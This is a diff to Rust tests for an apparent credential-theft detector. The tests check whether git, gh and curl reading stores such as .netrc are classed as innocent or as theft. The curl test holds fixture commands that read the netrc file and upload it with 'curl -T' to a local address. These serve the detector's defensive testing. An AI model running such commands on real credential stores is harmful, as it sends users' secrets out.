@@ -54,7 +54,7 @@ fn aws() {
 #[test]
 fn git() {
     let fill = r#"printf 'protocol=https\nhost=git.invalid\n\n' >"$HOME/asked"
-        export GIT_TERMINAL_PROMPT=0; exec git -c credential.helper=store credential fill <"$HOME/asked""#;
+        export GIT_TERMINAL_PROMPT=0; exec git -c credential.helper=store credential fill <"$HOME/asked" >/dev/null"#;
     if !skip::has(&["git", "/usr/bin/dash"]) {
         return;
     }
@@ -141,7 +141,8 @@ fn gh() {
     let stage = Stage::new();
     let mut scene = Scene::new(&stage);
     let gh = skip::program("gh").unwrap();
-    for (name, script) in [("token", "exec gh auth token"), ("config", "exec gh config get git_protocol -h github.com")]
+    for (name, script) in
+        [("token", "exec gh auth token >/dev/null"), ("config", "exec gh config get git_protocol -h github.com")]
     {
         scene.add(scene.innocent(name, Store::GhHosts, script).reader(&gh));
     }
@@ -149,8 +150,7 @@ fn gh() {
     scene.play();
 }
 
-/// The one tool that cannot be told from a thief: curl sends a file as readily as it logs in with it. The finding says
-/// so.
+/// Curl sends a file as readily as it logs in with it: the arguments tell.
 #[test]
 fn curl() {
     if !skip::has(&["curl"]) {
@@ -167,15 +167,21 @@ fn curl() {
         client.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n").unwrap();
         String::from_utf8_lossy(&request[..length]).contains("Authorization: Basic")
     });
-    let act = scene.theft("netrc", Store::Netrc, &format!("exec curl --silent --netrc http://{address}/"));
+    let act = scene.innocent("netrc", Store::Netrc, &format!("exec curl --silent --netrc http://{address}/"));
     scene.add(act.reader(skip::program("curl").unwrap()));
     scene.add(cat(&scene, Store::Netrc));
     // The same program, sending the file itself.
     let act = scene.theft("upload", Store::Netrc, r#"exec curl --silent "file://$STORE""#);
     scene.add(act.reader(skip::program("curl").unwrap()));
+    // As if to log in, and among other options with the file.
+    let act =
+        scene.theft("send", Store::Netrc, r#"curl --silent --max-time 1 -nsT "$STORE" http://127.0.0.1:9/; exit 0"#);
+    scene.add(act.reader(skip::program("curl").unwrap()));
     let watched = scene.play();
     let told = |finding: &&Finding| finding.mentions("curl only moves or shows bytes, for whoever runs it");
-    assert_eq!(watched.findings.iter().filter(told).count(), 2, "{}", watched.story());
+    assert_eq!(watched.findings.iter().filter(told).count(), 1, "{}", watched.story());
+    let told = |finding: &&Finding| finding.mentions("with these arguments it could send any file elsewhere");
+    assert_eq!(watched.findings.iter().filter(told).count(), 1, "{}", watched.story());
     assert!(server.join().unwrap(), "curl sent no password, so it read none");
 }
 
